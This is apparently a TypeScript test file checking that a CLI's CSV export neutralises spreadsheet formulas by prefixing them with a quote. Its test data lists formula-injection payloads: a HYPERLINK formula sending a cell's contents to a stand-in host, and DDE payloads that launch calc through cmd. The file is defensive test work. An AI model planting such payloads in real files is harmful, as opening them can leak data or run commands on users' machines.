/**
 * `batchgate items export --format csv` (a real CLI process against a real service) neutralises spreadsheet
 * formulas as the web's CSV download does (src/csv-cell.ts): a cell whose text starts with = + - @, a tab or a
 * carriage return gets a leading ', so opening the file does not run it. Numbers stay numbers.
 */
import assert from 'node:assert/strict';
import { after, before, it } from 'node:test';
import { csvRows } from '../../src/cli/csv.ts';
import { describeEachDialect } from '../helpers/db.ts';
import { exits, startHarness, type Harness } from '../cli/harness.ts';

const T = { timeout: 180_000 };

const FORMULAS = [
  '=HYPERLINK("http://x.invalid/?"&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];

describeEachDialect('CSV export neutralises formulas', (dialect) => {
  let h: Harness;
  before(async () => (h = await startHarness(dialect)));
  after(() => h?.close());

  it("prefixes formula-looking cells with ' and leaves numbers alone", T, async () => {
    const ds = await h.datastore('sheet');
    const items = FORMULAS.map((f, i) => ({ title: f, fields: { vendor: f, amount: -i - 0.5 } }));
    await h.api('POST', `/api/v1/workspaces/${h.workspace}/datastores/${ds}/items`, { items });
    const out = exits(await h.cli(['items', 'export', ds, '--format', 'csv']), 0).stdout;
    const rows: string[][] = [];
    for await (const row of csvRows(
      (async function* () {
        yield out;
      })(),
    ))
      rows.push(row);
    const [header, ...data] = rows;
    const at = (name: string) => header!.indexOf(name);
    assert.equal(data.length, FORMULAS.length);
    const byTitle = new Map(data.map((r) => [r[at('title')]!.slice(1), r]));
    for (const [i, f] of FORMULAS.entries()) {
      const row = byTitle.get(f);
      assert.ok(row, `a row for ${JSON.stringify(f)}: ${JSON.stringify(data)}`);
      assert.equal(row[at('title')], `'${f}`);
      assert.equal(row[at('vendor')], `'${f}`);
      assert.equal(row[at('amount')], String(-i - 0.5), 'a negative number is not a formula');
    }
  });
});
